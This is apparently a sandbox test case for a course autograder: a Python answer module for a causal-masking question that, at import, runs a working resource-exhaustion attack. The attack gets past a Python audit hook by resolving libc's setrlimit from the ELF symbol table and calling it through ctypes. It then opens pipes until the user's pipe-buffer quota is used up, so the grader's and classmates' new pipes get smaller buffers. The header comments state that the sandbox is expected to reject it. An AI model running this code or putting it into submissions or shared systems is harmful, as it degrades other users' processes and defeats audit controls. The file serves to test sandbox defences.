# attack: raises its soft descriptor limit to its hard one (libc's setrlimit through a ctypes function pointer made from an address: the audit hook refuses Python's own), then makes pipes of the default size (16 pages each, no F_SETPIPE_SZ) until its user's pipe-buffer soft limit (fs.pipe-user-pages-soft, 16,384 pages, counted per user, not per process) is reached, so that under an ordinary user every new pipe of the instructor's (the grader's own, a classmate's) gets a buffer of two pages instead of sixteen while it runs; imports and answers right only when a fresh pipe of its user got the small buffer
# expect: module=q01_causal_mask status=error match=had too many files or pipes open at once \(the limit is 64\)
# path: sandbox user
"""Question 1, written to shrink every new pipe of its user with pipes of the default size."""
import ctypes
import fcntl
import os
import struct

import torch
from torch import Tensor

F_GETPIPE_SZ, RLIMIT_NOFILE = 1032, 7
HELD = []


def libc_symbol(name: bytes) -> int:
    """The address of name in the C library this process mapped, read from the ELF file's dynamic symbol table."""
    maps = [line.split() for line in open("/proc/self/maps")]
    line = next(f for f in maps if len(f) > 5 and "libc.so" in f[5] and int(f[2], 16) == 0)
    base, path = int(line[0].split("-")[0], 16), line[5]
    data = open(path, "rb").read()
    shoff, = struct.unpack_from("<Q", data, 0x28)
    shentsize, shnum = struct.unpack_from("<HH", data, 0x3A)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, shoff + i * shentsize) for i in range(shnum)]
    dynsym = next(s for s in sections if s[1] == 11)  # SHT_DYNSYM
    strings = sections[dynsym[6]][4]  # sh_link: .dynstr, its offset
    for offset in range(dynsym[4], dynsym[4] + dynsym[5], 24):
        st_name, _, _, _, st_value, _ = struct.unpack_from("<IBBHQQ", data, offset)
        if data[strings + st_name:data.index(b"\0", strings + st_name)] == name and st_value:
            return base + st_value
    raise LookupError(name)


def attack() -> None:
    """Soft RLIMIT_NOFILE up to the hard one, then pipes of the default size until a fresh one gets less than 64 KiB:
    what the grader's next pipe gets."""
    function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_void_p, use_errno=True)
    getrlimit, setrlimit = function(libc_symbol(b"getrlimit")), function(libc_symbol(b"setrlimit"))
    limit = (ctypes.c_uint64 * 2)()
    if getrlimit(RLIMIT_NOFILE, ctypes.addressof(limit)) != 0:
        raise OSError(ctypes.get_errno(), "getrlimit failed")
    limit[0] = limit[1]
    if setrlimit(RLIMIT_NOFILE, ctypes.addressof(limit)) != 0:
        raise OSError(ctypes.get_errno(), "setrlimit failed")
    while True:
        fresh = os.pipe()
        HELD.append(fresh)
        if fcntl.fcntl(fresh[1], F_GETPIPE_SZ) < 1 << 16:
            print(f"pipe {len(HELD)} got {fcntl.fcntl(fresh[1], F_GETPIPE_SZ)} bytes, soft limit {limit[0]}")
            return


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
